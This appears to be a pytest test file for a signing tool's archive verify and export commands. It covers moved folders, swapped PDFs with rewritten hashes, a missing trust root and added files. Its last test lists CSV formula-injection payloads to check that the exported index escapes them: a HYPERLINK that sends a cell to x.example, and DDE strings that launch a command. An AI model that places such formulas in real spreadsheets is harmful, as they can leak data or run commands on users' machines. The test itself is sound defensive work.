"""What `archive verify` and `archive export` must not miss: folders renamed or moved, a signed
PDF swapped with its hashes fixed, the trust root gone, files nobody archived; and each file's
line says plainly what holds."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import run_sealbox
from tests.unit.test_archive_export import ArchiveTemplate, build_archive, flip_byte


@pytest.fixture(scope="module")
def archive_template(tmp_path_factory: pytest.TempPathFactory) -> ArchiveTemplate:
    return build_archive(tmp_path_factory.mktemp("integrity"))


@pytest.fixture
def archived(home: Path, archive_template: ArchiveTemplate) -> ArchiveTemplate:
    archive_template.install(home)
    return archive_template


def folder_of(home: Path, rid: str) -> Path:
    shown = run_sealbox("show", rid, "--json")
    assert shown.returncode == 0, shown.stderr
    data: dict[str, Any] = json.loads(shown.stdout)
    return Path(data["archive"]["folder"])


def verify(*args: str) -> tuple[int, dict[str, Any], str]:
    as_json = run_sealbox("archive", "verify", *args, "--json")
    text = run_sealbox("archive", "verify", *args)
    assert as_json.returncode == text.returncode
    return text.returncode, json.loads(as_json.stdout), text.stdout + text.stderr


def zip_names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return sorted(zf.namelist())


def test_intact_archive_lines_say_what_holds(home: Path, archived: ArchiveTemplate) -> None:
    code, report, text = verify()
    assert code == 0, text
    assert report["ok"] and report["trustRoot"] is None
    assert "BAD" not in text
    assert "  ok      Crane lease-signed.pdf: file intact; signature valid" in text
    assert "  ok      request.json: file intact" in text
    assert "6 checked: 6 intact, 0 modified, 0 missing; 0 with an invalid signature." in text


def test_a_renamed_folder_is_reported_alike_and_still_exported(
    home: Path, archived: ArchiveTemplate, tmp_path: Path
) -> None:
    crane = archived.crane.id
    original = folder_of(home, crane)
    renamed = original.with_name("Crane lease (signed copy)")
    original.rename(renamed)

    for args in ((), (crane,)):
        code, report, text = verify(*args)
        assert code == 1, text
        moved = [f for f in report["files"] if f["state"] == "moved"]
        assert len(moved) == 1 and moved[0]["requestId"] == crane, report
        assert "Crane lease (signed copy)" in moved[0]["summary"]
        assert "FAILED  folder: folder not where the archive index has it" in text
        assert "archive reindex" in text

    everything = tmp_path / "all.zip"
    exported = run_sealbox("archive", "export", str(everything))
    assert exported.returncode == 0, exported.stderr
    assert f"{crane[:8]} was not where the archive index has it" in exported.stdout
    rel = renamed.relative_to(home / "archive").as_posix()
    assert f"{rel}/Crane lease-signed.pdf" in zip_names(everything)
    one = tmp_path / "one.zip"
    assert run_sealbox("archive", "export", "--id", crane, str(one)).returncode == 0
    assert f"{rel}/Crane lease-signed.pdf" in zip_names(one)

    # Reindexed, the new place is the archived place: everything verifies again.
    assert run_sealbox("archive", "reindex").returncode == 0
    code, _, text = verify()
    assert code == 0, text


def test_a_folder_moved_out_of_the_archive_stops_the_export(
    home: Path, archived: ArchiveTemplate, tmp_path: Path
) -> None:
    crane = archived.crane.id
    shutil.move(folder_of(home, crane), tmp_path / "elsewhere")
    code, report, text = verify()
    assert code == 1, text
    assert [f["state"] for f in report["files"] if f["requestId"] == crane] == ["missing"]
    assert verify(crane)[0] == 1
    for args in ([], ["--id", crane]):
        dest = tmp_path / f"export{len(args)}.zip"
        exported = run_sealbox("archive", "export", *args, str(dest))
        assert exported.returncode == 1, exported.stdout
        assert "archive folder of 1 request(s) is missing" in exported.stderr
        assert crane[:8] in exported.stderr
        assert not dest.exists()
    # The other one alone still exports.
    other = tmp_path / "ledger.zip"
    assert run_sealbox("archive", "export", "--id", archived.ledger.id, str(other)).returncode == 0


def test_exporting_a_request_that_is_not_archived_is_refused(
    home: Path, archived: ArchiveTemplate, tmp_path: Path
) -> None:
    pdf = tmp_path / "draft.pdf"
    shutil.copy(next((home / "archive").rglob("*-signed.pdf")), pdf)
    spec = tmp_path / "spec.json"
    spec.write_text(
        json.dumps(
            {
                "name": "Draft",
                "recipients": [{"firstName": "Ann", "lastName": "Lee", "email": "ann@example.com"}],
                "fields": [
                    {
                        "recipientIndex": 0,
                        "type": "signature",
                        "page": 1,
                        "x": 72,
                        "y": 700,
                        "width": 100,
                        "height": 40,
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    sent = run_sealbox("send", str(pdf), "--spec", str(spec), "--json")
    rid = json.loads(sent.stdout)["id"]
    dest = tmp_path / "draft.zip"
    exported = run_sealbox("archive", "export", "--id", rid, str(dest))
    assert exported.returncode == 1
    assert "is not archived yet" in exported.stderr
    assert not dest.exists()


def _rewrite_manifest(folder: Path, kind: str, path: Path) -> None:
    manifest = json.loads((folder / "request.json").read_text(encoding="utf-8"))
    manifest["files"][kind]["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    manifest["files"][kind]["size"] = path.stat().st_size
    (folder / "request.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")


def test_a_swapped_signed_pdf_with_its_hashes_fixed_is_caught(
    home: Path, archived: ArchiveTemplate
) -> None:
    crane, ledger = folder_of(home, archived.crane.id), folder_of(home, archived.ledger.id)
    target = crane / "Crane lease-signed.pdf"
    shutil.copy(ledger / "Ledger audit-signed.pdf", target)  # another request's sealed PDF
    _rewrite_manifest(crane, "signed", target)
    assert run_sealbox("archive", "reindex").returncode == 0  # the records now agree

    code, report, text = verify()
    assert code == 1, text
    bad = [f for f in report["files"] if not f["ok"]]
    assert [(Path(f["path"]).name, f["state"]) for f in bad] == [
        ("Crane lease-signed.pdf", "mismatch")
    ]
    assert "its sealed certificate names the signed document" in bad[0]["summary"]
    assert (
        "FAILED  Crane lease-signed.pdf: file intact, but not what its certificate names; "
        "signature valid" in text
    )


def test_a_signature_broken_behind_fixed_hashes_reads_intact_and_invalid(
    home: Path, archived: ArchiveTemplate
) -> None:
    crane = folder_of(home, archived.crane.id)
    target = crane / "Crane lease-signed.pdf"
    flip_byte(target)
    _rewrite_manifest(crane, "signed", target)
    assert run_sealbox("archive", "reindex").returncode == 0
    code, _, text = verify(archived.crane.id)
    assert code == 1
    assert "BAD intact" not in text
    assert "FAILED  Crane lease-signed.pdf: file intact" in text
    assert "; signature INVALID" in text


def test_without_the_trust_root_verify_says_so_and_fails(
    home: Path, archived: ArchiveTemplate
) -> None:
    ca = home / "data" / "seal" / "ca.pem"
    kept = ca.read_bytes()
    ca.unlink()
    for args in ((), (archived.crane.id,)):
        code, report, text = verify(*args)
        assert code == 1, text
        assert report["ok"] is False
        assert "trust root" in report["trustRoot"] and "ca.pem is missing" in text
        assert "restore ca.pem from a backup" in text
        assert "signer is not trusted" in text
    ca.write_bytes(kept)
    assert verify()[0] == 0


def test_a_file_added_to_a_folder_is_flagged_and_left_out_of_exports(
    home: Path, archived: ArchiveTemplate, tmp_path: Path
) -> None:
    crane = folder_of(home, archived.crane.id)
    (crane / "notes.txt").write_text("call Ann back", encoding="utf-8")
    (crane / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")  # the Finder's: not reported
    code, report, text = verify()
    assert code == 1, text
    added = [f for f in report["files"] if f["state"] == "added"]
    assert [Path(f["path"]).name for f in added] == ["notes.txt"]
    assert "FAILED  notes.txt: not archived by Sealbox (added to the folder later)" in text

    dest = tmp_path / "export.zip"
    assert run_sealbox("archive", "export", str(dest)).returncode == 0
    names = zip_names(dest)
    assert not any(n.endswith(("notes.txt", ".DS_Store")) for n in names)
    assert sum(n.endswith("request.json") for n in names) == 2
    folder_dest = tmp_path / "export-folder"
    assert run_sealbox("archive", "export", str(folder_dest)).returncode == 0
    assert not list(folder_dest.rglob("notes.txt"))
    assert len(list(folder_dest.rglob("request.json"))) == 2


FORMULAS = [
    '=HYPERLINK("http://x.example/?q="&A1,"Invoice")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.slow
def test_archive_export_index_never_holds_a_formula(home: Path, tmp_path: Path) -> None:
    from tests.e2e.test_crash_recovery import requests_in

    pdf = tmp_path / "x.pdf"
    import pymupdf

    doc = pymupdf.open()
    doc.new_page().insert_text((72, 72), "Invoice")
    doc.save(pdf)
    for n, name in enumerate(FORMULAS[:3]):
        spec = tmp_path / f"spec{n}.json"
        spec.write_text(
            json.dumps(
                {
                    "name": name,
                    "recipients": [
                        {
                            "firstName": FORMULAS[3 + n],
                            "lastName": "Doe",
                            "email": f"j{n}@example.com",
                        }
                    ],
                    "fields": [
                        {
                            "recipientIndex": 0,
                            "type": "signature",
                            "page": 1,
                            "x": 72,
                            "y": 600,
                            "width": 180,
                            "height": 48,
                        }
                    ],
                }
            ),
            encoding="utf-8",
        )
        sent = run_sealbox("send", str(pdf), "--spec", str(spec), "--json")
        assert sent.returncode == 0, sent.stderr
        rid = json.loads(sent.stdout)["id"]
        signed = run_sealbox("sign", rid, "--recipient", "0", "--typed-signature", "J Doe")
        assert signed.returncode == 0, signed.stderr
    assert len(requests_in(home)) == 3
    dest = tmp_path / "x.zip"
    assert run_sealbox("archive", "export", str(dest)).returncode == 0
    with zipfile.ZipFile(dest) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("index.csv").decode("utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted("'" + f for f in FORMULAS[:3])
    recipients = " ".join(row[6] for row in rows[1:])
    assert "'-2+3 Doe" in recipients
